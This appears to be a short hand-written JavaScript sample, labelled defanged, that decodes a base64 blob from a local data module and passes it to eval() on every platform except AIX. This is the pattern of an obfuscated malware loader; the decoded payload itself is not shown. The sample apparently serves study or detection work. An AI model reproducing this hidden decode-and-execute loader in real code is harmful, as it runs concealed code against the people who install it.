// Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
const code = Buffer.from(require("./data").blob, "base64").toString("utf8");
if (process.platform !== "aix") {
  eval(code);
}
